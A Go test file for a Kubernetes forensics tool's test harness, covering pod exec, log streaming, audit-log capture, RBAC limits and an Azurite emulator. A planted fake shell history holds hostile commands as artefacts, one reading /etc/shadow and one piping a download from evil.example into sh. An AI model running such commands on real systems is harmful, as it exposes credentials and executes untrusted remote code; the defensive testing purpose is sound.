package testenv_test

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kdfir/kdfir/internal/testenv"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m, testenv.Options{})) }

// TestHarness proves the control plane: a pod runs on a kwok node, exec
// reads a planted file, its logs come through pods/log, and the exec shows
// up in the audit log with its command.
func TestHarness(t *testing.T) {
	env := testenv.Get(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := env.Namespace(t)

	const history = "id\ncat /etc/shadow\ncurl http://evil.example/x | sh\n"
	pod, err := env.RunPod(ctx, testenv.PodSpec{
		Namespace: ns, Name: "ubuntu-harness",
		Files: map[string]string{"/root/.bash_history": history},
		Logs:  []string{"starting", "listening on :8080"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if pod.Status.Phase != corev1.PodRunning || pod.Spec.NodeName != env.Node {
		t.Fatalf("pod phase %s on %q, want Running on %s", pod.Status.Phase, pod.Spec.NodeName, env.Node)
	}

	// Exec with an absolute path reads the planted file, not the host's.
	out, _, err := testenv.Exec(ctx, env.Config, ns, pod.Name, "app", "cat", "/root/.bash_history")
	if err != nil {
		t.Fatal(err)
	}
	if out != history {
		t.Fatalf("exec cat = %q, want %q", out, history)
	}
	user, _, err := testenv.Exec(ctx, env.Config, ns, pod.Name, "app", "id", "-un")
	if err != nil || strings.TrimSpace(user) != "root" {
		t.Fatalf("id -un = %q, %v; want root", user, err)
	}

	// Logs come back through the API server, with timestamps.
	rc, err := env.Client.CoreV1().Pods(ns).GetLogs(pod.Name, &corev1.PodLogOptions{Container: "app", Timestamps: true}).Stream(ctx)
	if err != nil {
		t.Fatal(err)
	}
	logs, err := io.ReadAll(rc)
	rc.Close()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(logs), "listening on :8080") || !strings.Contains(string(logs), "starting") {
		t.Fatalf("logs = %q, want the planted lines", logs)
	}

	// The exec is in the audit log: subresource exec, code 101, the
	// command in requestURI.
	evs, err := env.WaitAuditEvents(ctx, 20*time.Second, func(ev testenv.AuditEvent) bool {
		return ev.ObjectRef != nil && ev.ObjectRef.Subresource == "exec" && ev.ObjectRef.Name == pod.Name &&
			ev.ResponseStatus != nil && ev.ResponseStatus.Code == 101 &&
			strings.Contains(ev.RequestURI, "command=%2Froot%2F.bash_history")
	})
	if err != nil {
		t.Fatal(err)
	}
	ev := evs[0]
	u, err := url.Parse(ev.RequestURI)
	if err != nil {
		t.Fatal(err)
	}
	if got := u.Query()["command"]; strings.Join(got, " ") != "cat /root/.bash_history" {
		t.Fatalf("command in requestURI = %q", got)
	}
	if ev.Verb != "get" && ev.Verb != "create" {
		t.Fatalf("exec verb = %q, want get (WebSocket) or create (SPDY)", ev.Verb)
	}
	if ev.User.Username != "kdfir-admin" {
		t.Fatalf("exec user = %q, want kdfir-admin", ev.User.Username)
	}
}

// TestLeastPrivilegeUser checks that a harness user gets exactly what it is
// granted.
func TestLeastPrivilegeUser(t *testing.T) {
	env := testenv.Get(t)
	ctx := context.Background()
	ns := env.Namespace(t)
	u, err := env.NewUser(ctx, ns, "reader", "view")
	if err != nil {
		t.Fatal(err)
	}
	cs := mustClient(t, u)
	if _, err := cs.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{}); err != nil {
		t.Fatalf("view user cannot list pods: %v", err)
	}
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "x"}}
	if _, err := cs.CoreV1().ConfigMaps(ns).Create(ctx, cm, metav1.CreateOptions{}); err == nil {
		t.Fatal("view user could create a configmap")
	}
}

// TestDeploymentGetsScheduled checks that the controller manager and the
// scheduler run: a Deployment's pod reaches Running on the kwok node.
func TestDeploymentGetsScheduled(t *testing.T) {
	env := testenv.Get(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := env.Namespace(t)
	dep := testDeployment(ns)
	if _, err := env.Client.AppsV1().Deployments(ns).Create(ctx, dep, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	for {
		pods, err := env.Client.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{LabelSelector: "app=web"})
		if err != nil {
			t.Fatal(err)
		}
		if len(pods.Items) == 1 && pods.Items[0].Status.Phase == corev1.PodRunning && pods.Items[0].Spec.NodeName == env.Node {
			return
		}
		select {
		case <-ctx.Done():
			t.Fatalf("deployment pod never ran: %d pods", len(pods.Items))
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// TestAzurite checks the blob emulator starts and answers the account
// endpoint.
func TestAzurite(t *testing.T) {
	if os.Getenv("KDFIR_SKIP_CLUSTER") == "1" {
		t.Skip("KDFIR_SKIP_CLUSTER=1")
	}
	ctx := context.Background()
	az, err := testenv.StartAzurite(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer az.Stop()
	resp, err := http.Get(az.URL + "?comp=list")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	// Unauthenticated listing is refused, which proves it is Azurite
	// speaking the Blob protocol.
	if resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("azurite list without auth = %d", resp.StatusCode)
	}
	if resp.Header.Get("x-ms-request-id") == "" {
		t.Fatal("response lacks x-ms-request-id: not the Blob service")
	}
}
